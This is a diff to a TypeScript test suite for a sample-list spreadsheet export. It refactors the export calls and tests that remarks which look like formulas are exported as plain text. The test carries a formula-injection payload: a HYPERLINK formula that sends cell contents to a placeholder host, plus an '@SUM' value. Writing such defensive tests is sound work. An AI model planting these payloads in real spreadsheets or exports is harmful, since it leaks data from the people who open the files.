@@ -256,6 +256,15 @@ describe.each(ENGINES)('sample list on %s', (engine) => {
       ),
     );
 
+  /** The sample list's xlsx of the specimens whose barcode starts so. */
+  const exported = (code: string) =>
+    call(
+      env.app,
+      endpoints.librarySamples.export,
+      { lang: 'en_US', session: keeper, body: { code } },
+      env.clock.now,
+    );
+
   beforeAll(async () => {
     env = await startEnv(engine);
     keeper = await login(env, '13800000004');
@@ -290,12 +299,7 @@ describe.each(ENGINES)('sample list on %s', (engine) => {
     expect((await list(keeper, { library: ['lost'] })).code).toBe(ResultCode.BAD_REQUEST);
     expect((await list(keeper, { signedFrom: '2026-13-40' })).code).toBe(ResultCode.BAD_REQUEST);
     expect((await list(lab, {})).code).toBe(ResultCode.FORBIDDEN);
-    const response = await call(
-      env.app,
-      endpoints.librarySamples.export,
-      { lang: 'en_US', session: keeper, body: { code: 'LIB-RCV-001' } },
-      env.clock.now,
-    );
+    const response = await exported('LIB-RCV-001');
     expect(response.statusCode).toBe(200);
     expect(response.headers['content-type']).toContain('spreadsheetml');
     expect(response.rawPayload.subarray(0, 2).toString()).toBe('PK');
@@ -303,22 +307,14 @@ describe.each(ENGINES)('sample list on %s', (engine) => {
 
   it('writes a remark that reads as a formula as text: never a formula in the exported sheet', async () => {
     const formula = '=HYPERLINK("http://example.invalid/?"&A2,"Click")';
-    await env.handle.db
-      .update(specimenBarcodes)
-      .set({ remark: formula })
-      .where(eq(specimenBarcodes.code, 'LIB-RCV-0010'));
-    await env.handle.db
-      .update(specimenBarcodes)
-      .set({ remark: '@SUM(1+1)' })
-      .where(eq(specimenBarcodes.code, 'LIB-RCV-0010-1'));
+    for (const [code, remark] of [
+      ['LIB-RCV-0010', formula],
+      ['LIB-RCV-0010-1', '@SUM(1+1)'],
+    ] as const)
+      await env.handle.db.update(specimenBarcodes).set({ remark }).where(eq(specimenBarcodes.code, code));
     const listed = (await list(keeper, { code: 'LIB-RCV-0010' })).data as Array<Row & { remark: string }>;
     expect(listed.find((r) => r.code === 'LIB-RCV-0010')?.remark).toBe(formula);
-    const response = await call(
-      env.app,
-      endpoints.librarySamples.export,
-      { lang: 'en_US', session: keeper, body: { code: 'LIB-RCV-0010' } },
-      env.clock.now,
-    );
+    const response = await exported('LIB-RCV-0010');
     expect(response.statusCode).toBe(200);
     const book = new ExcelJS.Workbook();
     await book.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
